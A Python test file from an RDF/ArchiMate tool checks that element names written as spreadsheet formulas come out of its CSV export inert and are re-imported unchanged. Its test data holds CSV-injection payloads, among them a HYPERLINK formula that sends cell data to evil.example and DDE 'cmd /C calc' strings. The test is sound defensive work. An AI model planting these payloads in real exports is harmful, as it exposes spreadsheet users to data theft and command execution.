"""Case 13: names that are spreadsheet formulas, stored through the live server, come out of the CSV export inert.

A model whose names start with ``=``, ``+``, ``-``, ``@``, TAB and CR is PUT into the running server (with the
token). Its graph is read back over the Graph Store protocol into a store of its own (the served store is locked by
the server), and ``vskg archimate-csv export-csv`` writes it: every such cell starts with an apostrophe, so Excel
or LibreOffice shows it as text. ``import-csv`` of those files gives back exactly the names that were stored.
"""

from __future__ import annotations

import csv
from pathlib import Path

import httpx
import rdflib
from pyoxigraph import NamedNode, RdfFormat
from rdflib import Literal, URIRef
from rdflib.namespace import RDF
from typer.testing import CliRunner

from tests.hostile.conftest import Survivor
from vskg.cli import app
from vskg.store import LocalStore

AM = rdflib.Namespace("https://w3id.org/vskg/archimate#")
GRAPH = "https://w3id.org/vskg/graph/archimate/hostile-csv"
MODEL = URIRef("https://w3id.org/vskg/archimate/model/hostile")
NAMES = {
    "e1": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "e2": "+cmd|' /C calc'!A0",
    "e3": "-2+3+cmd|' /C calc'!A0",
    "e4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "e5": "\t=1+1",
    "e6": "\r=1+1",
    "e7": "'=already quoted",
    "e8": "Ordinary name",
}


def _hostile_model() -> bytes:
    g = rdflib.Graph()
    g.add((MODEL, RDF.type, AM.Model))
    g.add((MODEL, AM.identifier, Literal("hostile")))
    g.add((MODEL, AM.name, Literal("=1+1")))
    for ident, name in NAMES.items():
        element = URIRef(f"{MODEL}/{ident}")
        g.add((element, RDF.type, AM.Element))
        g.add((element, AM.inModel, MODEL))
        g.add((element, AM.identifier, Literal(ident)))
        g.add((element, AM.type, Literal("BusinessActor")))
        g.add((element, AM.name, Literal(name)))
    return g.serialize(format="nt", encoding="utf-8")


def test_formula_names_are_exported_inert_and_imported_exactly(survivor: Survivor, tmp_path: Path) -> None:
    put = httpx.put(
        f"{survivor.url}/store",
        params={"graph": GRAPH},
        content=_hostile_model(),
        headers={"Content-Type": "application/n-triples", **survivor.auth()},
    )
    assert put.status_code == 201, put.text
    try:
        accept = {"Accept": "application/n-triples"}
        stored = httpx.get(f"{survivor.url}/store", params={"graph": GRAPH}, headers=accept)
        assert stored.status_code == 200
    finally:
        gone = httpx.delete(f"{survivor.url}/store", params={"graph": GRAPH}, headers=survivor.auth())
        assert gone.status_code == 204
    survivor.check()

    copy = tmp_path / "copy"
    db = LocalStore(copy)
    try:
        db.db.load(stored.content, format=RdfFormat.N_TRIPLES, to_graph=NamedNode(GRAPH))
    finally:
        db.close()
    runner = CliRunner()
    result = runner.invoke(app, ["export", "archimate-csv", "-o", str(tmp_path / "out"), "--store", str(copy)])
    assert result.exit_code == 0, result.output

    raw = (tmp_path / "out" / "elements.csv").read_bytes()
    rows = raw.split(b"\r\n")
    assert rows[1] == b'"hostile","ArchimateModel","\'=1+1","",""'
    assert b'"e1","BusinessActor","\'=HYPERLINK(""http://evil.example/?""&A1,""open"")","",""' in rows
    assert b'"e2","BusinessActor","\'+cmd|\' /C calc\'!A0","",""' in rows
    assert b'"e3","BusinessActor","\'-2+3+cmd|\' /C calc\'!A0","",""' in rows
    assert b'"e4","BusinessActor","\'@SUM(1+1)*cmd|\' /C calc\'!A0","",""' in rows
    assert b'"e5","BusinessActor","\'\t=1+1","",""' in rows
    assert b'"e6","BusinessActor","\'\r=1+1","",""\r\n' in raw
    assert b'"e7","BusinessActor","\'\'=already quoted","",""' in rows
    assert b'"e8","BusinessActor","Ordinary name","",""' in rows
    # no cell of any of the three files starts with a formula character
    for kind in ("elements", "relations", "properties"):
        with (tmp_path / "out" / f"{kind}.csv").open(encoding="utf-8", newline="") as handle:
            for record in csv.reader(handle):
                assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in record), record

    imported = tmp_path / "imported"
    result = runner.invoke(app, ["import", "archimate-csv", str(tmp_path / "out"), "--store", str(imported)])
    assert result.exit_code == 0, result.output
    db = LocalStore(imported, read_only=True)
    try:
        rows = db.query(
            "SELECT ?id ?name WHERE { GRAPH ?g { ?e <https://w3id.org/vskg/archimate#identifier> ?id ; "
            "<https://w3id.org/vskg/archimate#name> ?name } }"
        )
        names = {row["id"].value: row["name"].value for row in rows}
    finally:
        db.close()
    assert names == {"hostile": "=1+1", **NAMES}
